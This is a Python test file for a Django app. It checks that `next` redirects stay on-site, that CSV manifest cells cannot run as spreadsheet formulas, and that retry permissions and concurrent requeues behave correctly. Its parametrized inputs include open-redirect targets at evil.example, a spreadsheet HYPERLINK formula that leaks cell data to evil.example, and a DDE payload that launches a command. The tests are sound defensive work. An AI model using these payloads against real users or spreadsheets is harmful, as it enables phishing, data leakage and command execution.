"""Web-facing hardening: every `next` the app reads stays on this site, manifest.csv
cells cannot run as spreadsheet formulas, and retrying follows the delete rule."""

import csv
import io
import threading
import zipfile

import pytest
from django.db import connection, connections
from django.test import Client
from django.urls import reverse

from editor.edits.models import Edit, Status

from .factories import make_edit, personal_team

pytestmark = pytest.mark.django_db


# --- next: no open redirect, no 500 ---------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/phish",
        "//evil.example/phish",
        "javascript:alert(1)",
        "\\\\evil.example",
        "http:///evil.example",
    ],
)
def test_starring_never_redirects_off_the_site(client, studio, target):
    edit = make_edit(studio.team, studio.owner, status=Status.SUCCEEDED, results=1)
    client.force_login(studio.viewer)
    response = client.post(reverse("edit_star", args=[edit.pk]), {"next": target})
    assert response.status_code == 302
    assert response["Location"] == reverse("edit_detail", args=[edit.pk])


def test_starring_returns_to_a_page_of_this_site(client, studio):
    edit = make_edit(studio.team, studio.owner, status=Status.SUCCEEDED, results=1)
    client.force_login(studio.viewer)
    back = reverse("home") + "?status=succeeded"
    response = client.post(reverse("edit_star", args=[edit.pk]), {"next": back})
    assert response["Location"] == back


def test_sign_in_ignores_a_next_off_the_site(client, django_user_model):
    from .factories import PASSWORD, make_user

    make_user("erin")
    response = client.post(
        reverse("login"),
        {"username": "erin", "password": PASSWORD, "next": "https://evil.example/"},
    )
    assert response.status_code == 302
    assert not response["Location"].startswith("https://evil.example")


# --- manifest.csv: no formulas --------------------------------------------------------


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_manifest_cells_cannot_start_a_formula(alice_client, alice, prompt):
    edit = make_edit(personal_team(alice), alice, prompt=prompt, status=Status.SUCCEEDED, results=1)
    response = alice_client.get(reverse("edits_download_selected"), {"ids": [edit.pk]})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    text = archive.read("manifest.csv").decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["prompt"] == "'" + prompt  # shown as text, whole, in every spreadsheet
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_manifest_keeps_plain_prompts_as_they_are(alice_client, alice):
    edit = make_edit(
        personal_team(alice), alice, prompt="Put 3 = 3 items", status=Status.SUCCEEDED, results=1
    )
    response = alice_client.get(reverse("edits_download_selected"), {"ids": [edit.pk]})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    row = next(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    assert row["prompt"] == "Put 3 = 3 items"


# --- retry: own edits for editors, any for owners; one task per real requeue -----------


@pytest.mark.parametrize(
    ("author", "retrier", "status", "after"),
    [
        ("owner", "editor", 403, Status.FAILED),  # editors: not someone else's edit
        ("editor", "editor", 302, Status.QUEUED),  # their own
        ("editor", "owner", 302, Status.QUEUED),  # owners: anyone's
    ],
)
def test_retry_follows_the_delete_rule(client, studio, author, retrier, status, after):
    edit = make_edit(studio.team, getattr(studio, author), status=Status.FAILED)
    client.force_login(getattr(studio, retrier))
    assert client.post(reverse("edit_retry", args=[edit.pk])).status_code == status
    edit.refresh_from_db()
    assert edit.status == after


def queued_tasks_for(edit: Edit) -> int:
    from django_tasks_db.models import DBTaskResult

    return sum(
        1
        for args in DBTaskResult.objects.values_list("args_kwargs", flat=True)
        if (args.get("args") or [None])[0] == edit.pk
    )


def test_of_two_requeues_of_one_failed_edit_only_the_first_counts(studio):
    edit = make_edit(studio.team, studio.editor, status=Status.FAILED)
    first, second = Edit.objects.get(pk=edit.pk), Edit.objects.get(pk=edit.pk)
    assert first.requeue() is True
    assert second.requeue() is False  # it too had read "failed", but lost the update


@pytest.mark.skipif(
    connection.vendor == "sqlite",
    reason="the in-memory SQLite test database locks whole tables between threads; "
    "the PostgreSQL run of the suite covers this",
)
@pytest.mark.django_db(transaction=True)
def test_concurrent_retries_queue_one_task(studio):
    edit = make_edit(studio.team, studio.editor, status=Status.FAILED)
    before = queued_tasks_for(edit)
    start = threading.Barrier(4)

    def retry() -> None:
        try:
            browser = Client()
            browser.force_login(studio.editor)
            start.wait(5)
            browser.post(reverse("edit_retry", args=[edit.pk]))
        finally:
            connections.close_all()

    threads = [threading.Thread(target=retry) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(30)
    assert queued_tasks_for(edit) == before + 1
